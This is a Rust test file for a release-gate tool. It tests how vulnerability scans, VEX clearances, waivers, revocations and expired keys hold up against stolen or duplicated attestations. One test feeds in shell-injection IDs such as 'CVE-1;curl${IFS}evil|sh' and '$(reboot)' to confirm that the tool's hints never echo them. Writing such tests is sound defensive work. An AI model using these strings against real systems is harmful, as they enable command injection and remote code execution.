//! What the thief of a key that ended and whoever may attach copies try.

use serde_json::{Value, json};

use bulla_model::predicate::vulns;
use bulla_model::{Digest, ResourceDescriptor};
use bulla_verify::{Code, VulnerabilityOutcome};

use super::{RULE, TRIVY, assert_denied, document, found, found_in, scan_at, world, world_with};
use crate::kit::{World, assert_exit, assert_found, hour, policy};

const OPENVEX: &str = "https://openvex.dev/ns/v0.2.0";
const PACKAGE: &str = "pkg:deb/debian/openssl@3";

/// The keys of the first scanner and of the one who clears ended half an hour ago.
fn ended(rule: &str) -> World {
    world_with(rule, |world| {
        for name in ["scanner", "vexer"] {
            let key = policy::key(name);
            let from = format!("  {name}:\n    - key: {key}");
            let to = format!("  {name}:\n    - notAfter: 2026-03-02T10:30:00Z\n      key: {key}");
            world.edit("release.yaml", &from, &to);
        }
    })
}

fn scan_by(world: &mut World, who: &str, results: &[Value]) {
    world.attest(who, vulns::TYPE, &scan_at(TRIVY, Some(world.now), results));
}

fn cleared(id: &str) -> Value {
    json!({"vulnerability": {"name": id}, "status": "fixed"})
}

#[test]
fn what_a_scan_adds_to_a_finding_makes_no_clearance_fit() {
    let new = found_in("CVE-2026-1", "critical", PACKAGE, &[]);
    let mut added = new.clone();
    added["annotations"][0]["aliases"] = json!(["CVE-2020-1"]);
    for by_thief in [false, true] {
        let mut world = ended(RULE);
        scan_by(&mut world, "scanner-2", std::slice::from_ref(&new));
        world.waive("alice", &["CVE-2020-1"]);
        if by_thief {
            scan_by(&mut world, "scanner", std::slice::from_ref(&added));
        }
        assert_denied(&world.gate(), Code::VulnerabilitiesFound);
        world.waive("alice", &["CVE-2026-1"]);
        assert_exit(&world.gate(), 0);
    }
    // Nor does a package URL that another scan does not give.
    let mut named = found("CVE-2026-1", "critical");
    named["annotations"] = json!([{"name": "openssl"}]);
    let mut added = named.clone();
    added["annotations"] = json!([{"name": "openssl"}, {"package": PACKAGE}]);
    let product = json!({
        "hashes": {"sha-256": crate::kit::image().hex()},
        "subcomponents": [{"@id": PACKAGE}],
    });
    let mut said = cleared("CVE-2026-1");
    said["products"] = json!([product]);
    let mut world = world(RULE);
    world.scan(&[named]);
    world.vex("vexer", &json!([said]));
    assert_denied(&world.gate(), Code::VulnerabilitiesFound);
    scan_by(&mut world, "scanner-2", &[added]);
    assert_denied(&world.gate(), Code::VulnerabilitiesFound);
}

#[test]
fn copies_of_other_waivers_hide_no_revocation() {
    let id = "CVE-2026-1";
    let mut world = world_with(RULE, |world| {
        let key = policy::key("security");
        let identities = format!("identities:\n  security:\n    - key: {key}\n");
        world.edit("release.yaml", "identities:\n", &identities);
        let rule = "revocations: {by: [security], lift: {by: [security]}}\nhistory: []";
        world.edit("release.yaml", "history: []", rule);
    });
    world.scan(&[found(id, "critical")]);
    let subjects = [ResourceDescriptor::of(world.artifact.clone())];
    world.waive_with("alice", &[id], |said| {
        said.reason = "a long reason that makes the bundle the largest of them all".to_owned();
    });
    let payload = world.last_payload();
    world.revoke(
        "security",
        &[json!({"kind": "attestation", "payload": payload})],
    );
    assert_exit(&world.gate(), 14);
    let said = bulla_model::Statement::parse(
        &crate::kit::payload(&world.take("alice waiver")[0].bundle),
        &bulla_model::Limits::default(),
    );
    let said: bulla_model::predicate::Waiver = said.unwrap().predicate().unwrap();
    world.waive_about("alice", &said, &subjects);
    assert_exit(&world.gate(), 14);
    // Genuine waivers of the same for other images, and for here but over.
    for other in 0..10_u8 {
        let mut short = said.clone();
        short.reason = "x".to_owned();
        let subject = ResourceDescriptor::of(Digest::sha256(&[other]));
        world.waive_about("alice", &short, &[subject]);
        short.nonce = crate::kit::nonce(&format!("over {other}"));
        short.not_after = world.now;
        short.issued_at = hour(1);
        world.waive_about("alice", &short, &subjects);
    }
    let verdict = world.gate();
    assert_exit(&verdict, 14);
    assert_found(&verdict, Code::Revoked);
    // One that is attached often is told once.
    let copies = world.take("alice waiver");
    for copy in copies.iter().chain(&copies) {
        world.evidence.push(copy.clone());
    }
    let verdict = world.gate();
    assert_exit(&verdict, 14);
    let expired = verdict.findings.iter();
    let expired = expired.filter(|one| one.code == Code::WaiverExpired);
    assert_eq!(expired.count(), 8);
}

#[test]
fn what_nobody_can_read_evicts_nothing_that_was_let_in_before() {
    let mut world = world(RULE);
    world.scan(&[found("CVE-2026-1", "high")]);
    world.vex("vexer", &json!([cleared("CVE-2026-1")]));
    world.promote("staging");
    assert_exit(&world.verify("staging"), 0);
    world.now = hour(4);
    // Nobody but the document itself says when.
    let mut scan = scan_at(TRIVY, Some(hour(4)), &[]);
    scan["scanner"]["result"] = Value::Null;
    world.attest_at("scanner", vulns::TYPE, &scan, None);
    let mut vex = document(hour(4), &json!([]));
    vex["statements"] = json!(7);
    world.attest_at("vexer", OPENVEX, &vex, None);
    assert_exit(&world.verify("staging"), 0);
    assert_exit(&world.gate(), 1);
    // What says no time at all may be of any.
    scan.as_object_mut().unwrap().remove("metadata");
    world.attest_at("scanner", vulns::TYPE, &scan, None);
    assert_exit(&world.verify("staging"), 1);
}

#[test]
fn a_document_of_many_ids_and_products_costs_what_it_is_long() {
    let mut world = ended(RULE);
    scan_by(
        &mut world,
        "scanner-2",
        &[found_in("CVE-2026-1", "high", PACKAGE, &[])],
    );
    let aliases: Vec<_> = (0..4096).map(|one| format!("X-{one}")).collect();
    let products = vec![json!({"@id": "a"}); 4096];
    let said = json!({
        "vulnerability": {"name": "CVE-2026-1", "aliases": aliases},
        "status": "affected",
        "products": products,
    });
    world.vex("vexer", &json!([said]));
    let copy = world.evidence.last().unwrap().clone();
    for _ in 0..20 {
        world.evidence.push(copy.clone());
    }
    assert_exit(&world.gate(), 1);
}

#[test]
fn no_hint_holds_what_a_shell_would_understand() {
    for (id, typed) in [
        ("CVE-2026-1", true),
        ("GHSA-aaaa-bbbb-cccc", true),
        ("CVE-1;curl${IFS}evil|sh", false),
        ("$(reboot)", false),
        ("--yes", false),
        ("a b", false),
    ] {
        let mut world = world(RULE);
        world.scan(&[found(id, "high")]);
        let verdict = world.gate();
        assert_denied(&verdict, Code::VulnerabilitiesFound);
        let mut hints = verdict.findings.iter().filter_map(|one| one.hint.as_ref());
        let hint = hints.find(|hint| hint.contains("upgrade it")).unwrap();
        assert_eq!(hint.contains("bulla waive"), typed, "{hint}");
        assert_eq!(hint.contains(id), typed, "{hint}");
        let named = "--env env://acme/pay/staging --from env://acme/pay/dev";
        assert_eq!(hint.contains(named), typed, "{hint}");
    }
}

#[test]
fn a_key_that_ended_evicts_nothing_that_runs() {
    let mut world = ended("{by: [scanner], vex: {by: [vexer]}}");
    scan_by(&mut world, "scanner-2", &[]);
    world.promote("staging");
    assert_exit(&world.verify("staging"), 0);
    world.now = hour(5);
    let dirty = scan_at(TRIVY, Some(hour(2)), &[found("CVE-2026-1", "high")]);
    world.attest_at("scanner", vulns::TYPE, &dirty, Some(hour(2)));
    assert_exit(&world.verify("staging"), 0);
    assert_denied(&world.gate(), Code::VulnerabilitiesFound);
}

#[test]
fn what_may_be_the_artifact_takes_a_clearance_back() {
    let own = crate::kit::image();
    let other = Digest::sha256(b"another image");
    let purl = |digest: &str| format!("pkg:oci/api@sha256%3A{digest}");
    for (product, exit) in [
        (
            json!({"@id": purl(own.hex()), "hashes": {"sha-256": other.hex()}}),
            1,
        ),
        (
            json!({"@id": purl(own.hex()), "hashes": {"sha-256": "7"}}),
            1,
        ),
        (json!({"hashes": {"sha-256": "7"}}), 1),
        (json!({"@id": purl(other.hex())}), 0),
        (
            json!({"hashes": {"sha-256": own.hex()}, "subcomponents": [
            {"@id": "pkg:npm/b", "identifiers": {"purl": PACKAGE}}]}),
            1,
        ),
        (
            json!({"hashes": {"sha-256": own.hex()}, "subcomponents": [{"@id": "pkg:npm/b"}]}),
            0,
        ),
    ] {
        let mut world = world(RULE);
        world.scan(&[found_in("CVE-2026-1", "high", PACKAGE, &[])]);
        world.vex("vexer", &json!([cleared("CVE-2026-1")]));
        assert_exit(&world.gate(), 0);
        let vulnerability = json!({"name": "CVE-2026-1"});
        let said = json!({
            "vulnerability": vulnerability, "status": "affected", "products": [product],
        });
        world.vex("vexer", &json!([said]));
        assert_eq!(world.gate().exit_code(), exit, "{product}");
    }
}

#[test]
fn a_part_clears_nothing_of_what_may_be_an_index() {
    for (product, exit) in [
        (
            json!({"@id": format!("pkg:oci/api@sha256%3A{}", crate::kit::image().hex())}),
            0,
        ),
        (
            json!({"@id": format!("pkg:oci/api@sha256%3A{}?arch=arm64", crate::kit::image().hex())}),
            1,
        ),
        (
            json!({"@id": "pkg:docker/api?platform=arm64", "hashes": {"sha-256": crate::kit::image().hex()}}),
            1,
        ),
        (
            json!({"@id": "pkg:docker/api", "hashes": {"sha-256": crate::kit::image().hex()}}),
            0,
        ),
    ] {
        let mut world = world(RULE);
        world.scan(&[found("CVE-2026-1", "high")]);
        let mut said = cleared("CVE-2026-1");
        said["products"] = json!([product.clone()]);
        world.vex("vexer", &json!([said]));
        assert_eq!(world.gate().exit_code(), exit, "{product}");
    }
}

#[test]
fn a_part_of_an_index_clears_no_other_part() {
    use crate::kit::{image, index, index_entry};
    let list = index(&[index_entry(&image())]);
    for (digest, qualifiers, exit) in [
        (list.digest().clone(), "", 0),
        (
            list.digest().clone(),
            "?repository_url=r.example/api&tag=1",
            0,
        ),
        (list.digest().clone(), "?arch=arm64", 1),
        (image(), "?arch=amd64", 0),
    ] {
        let mut world = world(RULE);
        world.indexes.push(list.clone());
        world.scan(&[found("CVE-2026-1", "high")]);
        let mut said = cleared("CVE-2026-1");
        let purl = format!("pkg:oci/api@sha256%3A{}{qualifiers}", digest.hex());
        said["products"] = json!([{"@id": purl}]);
        world.vex("vexer", &json!([said]));
        assert_eq!(world.gate().exit_code(), exit, "{purl}");
    }
}

#[test]
fn what_is_waived_needs_no_clearance() {
    let mut world = world(RULE);
    world.scan(&[found("CVE-2026-1", "high")]);
    world.vex("vexer", &json!([cleared("CVE-2026-1")]));
    let outcome = |world: &World| {
        let verdict = world.gate();
        assert_exit(&verdict, 0);
        verdict.vulnerabilities.first().unwrap().outcome.clone()
    };
    assert!(matches!(outcome(&world), VulnerabilityOutcome::Cleared(_)));
    world.waive("alice", &["CVE-2026-1"]);
    assert!(matches!(outcome(&world), VulnerabilityOutcome::Waived(_)));
}
